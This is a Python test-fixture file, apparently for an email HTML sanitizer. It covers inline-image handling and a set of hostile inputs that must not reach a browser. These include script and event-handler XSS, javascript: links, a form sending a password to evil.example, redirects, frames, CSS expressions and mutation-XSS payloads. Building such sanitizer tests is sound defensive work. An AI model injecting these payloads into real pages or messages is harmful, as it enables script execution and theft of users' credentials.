"""HTML: pictures inside, and what must never reach a browser."""

from .sample import PDF, PNG, File, Sample, file, html, multi, text

PHOTO = File("photo.png", "image/png", len(PNG))
IMAGE = 'Content-Type: image/png; name="photo.png"\nContent-ID: <photo@x>'


def _related(name: str, page: str, headers: str = IMAGE, **expected) -> Sample:
    """A page with one picture."""
    expected.setdefault("files", (PHOTO,))
    return Sample(name, multi("related", html(page), file(PNG, headers)), **expected)


def _hostile(name: str, page: str, *no_markup: str) -> Sample:
    return Sample(
        name,
        html(f"<p>Hello</p>{page}<p>Bye</p>"),
        has=("Hello", "Bye"),
        no_markup=no_markup,
    )


SAMPLES = [
    Sample(
        "page",
        html("<html><head><title>T</title></head><body>Hi <b>you</b></body></html>"),
        has=("Hi you",),
        lacks=("T",),
        markup=("<b>you</b>",),
    ),
    Sample(
        "XHTML",
        html(
            '<?xml version="1.0" encoding="utf-8"?><html xmlns='
            '"http://www.w3.org/1999/xhtml"><body><p>Hi</p></body></html>'
        ),
        has=("Hi",),
    ),
    Sample(
        "Outlook",
        html(
            "<html xmlns:o='urn:x'><!--[if mso]><b>no</b><![endif]--><body>"
            "<p class=MsoNormal>Hi<o:p></o:p></p></body></html>"
        ),
        has=("Hi",),
        lacks=("no",),
    ),
    Sample("only a comment", html("<!-- nothing -->")),
    Sample(
        "quoted answer",
        html(
            "<div>Yes</div><div class='gmail_quote'>On Monday Anna wrote:"
            "<blockquote>Do you agree?</blockquote></div>"
        ),
        has=("Yes", "Do you agree?"),
        markup=("data-o-mail-quote",),
    ),
    _related("picture once", "<p>See</p><img src='cid:photo@x'>", images=1),
    _related(
        "picture twice", "<img src='cid:photo@x'>and<img src='cid:photo@x'>", images=2
    ),
    _related("picture not shown", "<p>No picture here</p>", has=("No picture here",)),
    _related("picture of a wrong id", "<p>Hi</p><img src='cid:other@x'>"),
    _related(
        "picture, id in capitals and escaped", "<img src='CID:photo%40x'>", images=1
    ),
    _related(
        "picture without a name",
        "<img src='cid:photo@x'>",
        "Content-Type: image/png\nContent-ID: <photo@x>",
        images=1,
        files=(File("image.png", "image/png", len(PNG)),),
    ),
    _related(
        "picture as octets",
        "<img src='cid:photo@x'>",
        "Content-Type: application/octet-stream; name=photo.png\n"
        "Content-ID: < photo@x >",
        images=1,
    ),
    _related(
        "picture by its location",
        "<img src='pics/photo.png'>",
        "Content-Type: image/png; name=photo.png\nContent-Location: pics/photo.png",
        images=1,
    ),
    _related(
        "picture by an address",
        "<img src='http://x.example/photo.png'>",
        "Content-Type: image/png; name=photo.png\n"
        "Content-Location: http://x.example/photo.png",
        images=1,
    ),
    Sample(
        "two pictures of one name",
        multi(
            "related",
            html("<img src='cid:1'><img src='cid:2'>"),
            file(PNG, "Content-Type: image/png; name=photo.png\nContent-ID: <1>"),
            file(
                PNG + b"2", "Content-Type: image/png; name=photo.png\nContent-ID: <2>"
            ),
        ),
        images=2,
        files=(PHOTO, File("photo.png", "image/png", len(PNG) + 1)),
    ),
    Sample(
        "picture below, file beside",
        multi(
            "mixed",
            multi(
                "related",
                html("<img src='cid:photo@x'>"),
                file(PNG, IMAGE),
                boundary="r",
            ),
            file(PDF, "Content-Type: application/pdf; name=a.pdf"),
        ),
        images=1,
        files=(PHOTO, File("a.pdf", "application/pdf", len(PDF))),
    ),
    Sample(
        "picture in plain text",
        multi(
            "mixed",
            text(b"Above"),
            file(
                PNG,
                "Content-Type: image/png; name=photo.png\nContent-Disposition: inline",
            ),
            text(b"Below"),
        ),
        has=("Above", "Below"),
        files=(PHOTO,),
    ),
    Sample(
        "tracking pixel",
        html("<p>Hi</p><img src='http://t.example/p.gif' width=1 height=1>"),
        has=("Hi",),
    ),
    _hostile(
        "script",
        "<script>alert(1)</script><script src='//evil.example/x.js'></script>",
        "alert",
        "evil.example",
    ),
    _hostile(
        "script that is not closed",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script",
    ),
    _hostile(
        "event handlers",
        "<img src=x onerror=alert(1)><a onclick='alert(1)'>x</a>"
        "<svg/onload=alert(1)><details open ontoggle=alert(1)></details>",
        "alert",
    ),
    _hostile(
        "javascript links",
        "<a href='javascript:alert(1)'>a</a>"
        "<a href='JaVa\tScript&#58;alert(1)'>b</a><a href='vbscript:x'>c</a>",
        "alert",
        "vbscript",
    ),
    _hostile(
        "data links", "<a href='data:text/html;base64,PHNjcmlwdD4='>a</a>", "data:text"
    ),
    _hostile(
        "form",
        "<form action='http://evil.example'><input name=password>"
        "<button formaction='javascript:alert(1)'>Go</button></form>",
        "<form",
        "<input",
        "formaction",
    ),
    _hostile(
        "refresh",
        "<meta http-equiv=refresh content='0;url=http://evil.example'>"
        "<base href='http://evil.example'>",
        "evil.example",
    ),
    _hostile(
        "frames and objects",
        "<iframe src='http://evil.example'></iframe>"
        "<object data='evil.swf'></object><embed src='evil.swf'>"
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "evil",
        "alert",
    ),
    _hostile(
        "style sheets",
        "<style>body{display:none}@import 'http://evil.example'</style>"
        "<link rel=stylesheet href='http://evil.example/x.css'>",
        "evil",
        "display",
    ),
    _hostile(
        "page over the page",
        "<div style='position:fixed;top:0;left:0;z-index:9999;"
        "width:100%;height:100%'>Log in</div>",
        "position",
        "z-index",
    ),
    _hostile(
        "CSS expressions",
        "<p style='width:expression(alert(1));behavior:url(x.htc);"
        "-moz-binding:url(x)'>x</p>",
        "expression",
        "behavior",
        "binding",
    ),
    _hostile(
        "SVG and MathML",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a>"
        "<style><img src=x onerror=alert(1)></style></svg>"
        "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
        "alert",
    ),
    _hostile(
        "mutating markup",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"
        "</noscript><template><img src=x onerror=alert(1)></template>"
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
        "onerror=alert(1)>",
    ),
    _hostile(
        "conditional comment",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "alert",
    ),
    Sample(
        "plain text that looks like a page",
        text(b"<script>alert(1)</script> <img src=x onerror=alert(1)>"),
        has=("<script>alert(1)</script>",),
        no_markup=("<script", "<img"),
    ),
]
